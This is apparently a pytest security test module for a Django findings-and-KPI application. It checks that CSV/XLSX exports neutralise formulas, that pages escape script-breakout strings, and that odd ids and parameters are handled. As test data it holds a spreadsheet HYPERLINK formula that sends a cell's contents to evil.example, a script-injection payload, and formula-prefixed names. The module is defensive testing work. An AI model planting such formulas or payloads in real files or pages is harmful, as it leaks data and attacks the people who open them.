"""Attacks on the findings area: hostile text in exports and on /kpi/, odd ids and parameters."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest
from openpyxl import load_workbook

from zorko.people.models import Organisation, Relative

from .scenario import make_finding

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")'
SCRIPT = "</script><script>alert(1)</script>"


@pytest.fixture
def hostile_finding(make_servant: Any) -> Any:
    servant = make_servant("@Иванов", "Иван", "-Иванович")
    relative = Relative.objects.create(servant=servant, kinship="sister", last_name="+Петрова",
                                       first_name="Анна", middle_name="Сергеевна")
    finding = make_finding(servant, relative=relative, explanation=FORMULA)
    type(finding).objects.filter(pk=finding.pk).update(subject_name=FORMULA)
    return finding


def _cells(rows: list[list[Any]]) -> list[str]:
    return [str(c) for row in rows for c in row if c not in (None, "")]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_hold_no_formula(client_as: Any, hostile_finding: Any, fmt: str) -> None:
    response = client_as("inspector").get(f"/findings/export.{fmt}")
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    else:
        sheet = load_workbook(io.BytesIO(body)).active
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
        rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    cells = _cells(rows)
    assert "'" + FORMULA in cells and "'@Иванов Иван -Иванович" in cells
    assert not [c for c in cells if c[0] in "=+@" or (c[0] == "-" and not c[1:2].isdigit())]


def test_kpi_organisation_name_cannot_break_out_of_the_script(client_as: Any, make_servant: Any) -> None:
    org = Organisation.objects.create(name=SCRIPT, short_name=SCRIPT, inn="4205111110")
    make_servant(organisation=org)
    page = client_as("administrator").get("/kpi/").content.decode()
    assert "<script>alert(1)" not in page
    data = re.search(r'<script id="kpi-data" type="application/json">(.*?)</script>', page, re.S)
    assert data and SCRIPT in json.loads(data.group(1))["organisations"]["labels"]


@pytest.mark.parametrize("query", ["year=²", "year=99999999999999999999", "year=-1", "month=²",
                                   "organisation=99999999999999999999999", "organisation=²", "month=0"])
def test_kpi_odd_parameters_answer_a_page(client_as: Any, query: str) -> None:
    assert client_as("inspector").get(f"/kpi/?{query}").status_code == 200


@pytest.mark.parametrize("url", ["/findings/99999999999999999999999/", "/findings/0/"])
def test_out_of_range_ids_answer_404(client_as: Any, url: str) -> None:
    assert client_as("inspector").get(url).status_code == 404


def test_hr_sees_no_finding_counts_on_job_pages(client_as: Any) -> None:
    from zorko.tasks.models import Job

    job = Job.objects.create(kind="screening.run", status=Job.Status.DONE,
                             message="Проверено: 12 чел., срабатываний: 3 (новых 3)",
                             result={"findings": 3, "message": "срабатываний: 3"})
    hr = client_as("hr")
    for url in (f"/tasks/{job.pk}/", f"/tasks/{job.pk}/?format=json", "/"):
        assert "срабатываний: 3" not in hr.get(url).content.decode(), url
    hr.logout()
    assert "срабатываний: 3" in client_as("inspector").get(f"/tasks/{job.pk}/").content.decode()


def test_hostile_registry_and_review_text_on_findings_pages_is_text(
        client_as: Any, hostile_finding: Any, make_user: Any) -> None:
    from tests.attack import XSS, assert_shown_escaped
    from zorko.findings.review import review_finding

    type(hostile_finding).objects.filter(pk=hostile_finding.pk).update(subject_name=XSS, explanation=XSS)
    hostile_finding.refresh_from_db()
    review_finding(hostile_finding, "in_review", make_user("inspector"), XSS)
    client = client_as("inspector")
    assert_shown_escaped(client.get("/findings/").content.decode())
    assert_shown_escaped(client.get(f"/findings/{hostile_finding.pk}/").content.decode())
    graph = client.get(f"/people/{hostile_finding.servant_id}/graph.json")
    assert graph["Content-Type"].startswith("application/json") and XSS in graph.content.decode()
